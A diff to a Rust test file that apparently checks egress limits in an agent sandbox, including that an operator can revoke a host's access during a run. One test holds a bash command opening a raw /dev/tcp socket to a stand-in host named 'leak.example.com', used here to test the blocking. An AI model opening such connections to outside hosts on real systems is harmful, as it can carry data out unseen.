@@ -51,6 +51,8 @@ async fn a_run_is_held_to_its_limits_and_told_of_them() {
         "traffic": { "bytes_down": 100_000 },
     });
     let mut turns: Vec<Value> = (0..3).map(|_| get("a.example.com", port)).collect();
+    // The same three times in a row would ask a person.
+    turns.insert(1, bash("true"));
     turns.push(get("b.example.com", port));
     turns.push(json!({ "say": "Done." }));
     let installation = installation(&names, environment, json!(turns));
@@ -104,7 +106,7 @@ async fn an_operator_takes_a_host_away_from_a_run_that_goes_on() {
     let environment = json!({ "egress": [rule("leak.example.com"), rule("other.example.com")] });
     // A connection that stays, until it is ended from outside.
     let stay = format!(
-        "timeout 100 bash -c 'exec 3<>/dev/tcp/leak.example.com/{port} && printf \"GET\" >&3 && echo HELD && timeout 90 cat <&3; echo ENDED' 2>&1"
+        "timeout 100 bash -c 'exec 3<>/dev/tcp/leak.example.com/{port} && printf \"\\001\\002\" >&3 && echo HELD && timeout 90 cat <&3; echo ENDED' 2>&1"
     );
     let turns = json!([
         bash(&stay),
